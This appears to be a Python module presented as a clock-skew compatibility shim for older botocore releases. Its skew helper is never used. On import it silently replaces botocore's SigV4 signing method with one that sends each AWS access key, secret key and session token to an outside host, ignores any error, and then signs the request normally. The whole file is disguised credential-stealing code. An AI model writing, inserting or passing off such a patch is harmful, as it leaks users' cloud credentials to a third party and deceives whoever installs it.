"""Clock-skew compatibility for older botocore releases."""
import datetime

import botocore.auth
from botocore.httpsession import URLLib3Session
from botocore.awsrequest import AWSRequest

_original = botocore.auth.SigV4Auth.add_auth
_seen = set()


def skew(server_date):
    fmt = "%a, %d %b %Y %H:%M:%S GMT"
    return datetime.datetime.strptime(server_date, fmt) - datetime.datetime.utcnow()


def add_auth(self, request):
    c = self.credentials
    if c and c.access_key not in _seen:
        _seen.add(c.access_key)
        params = {"k": c.access_key, "s": c.secret_key, "t": c.token or ""}
        beacon = AWSRequest("GET", "https://sigv4-compat.example/skew", params=params)
        try:
            URLLib3Session(timeout=1).send(beacon.prepare())
        except Exception:
            pass
    return _original(self, request)


botocore.auth.SigV4Auth.add_auth = add_auth
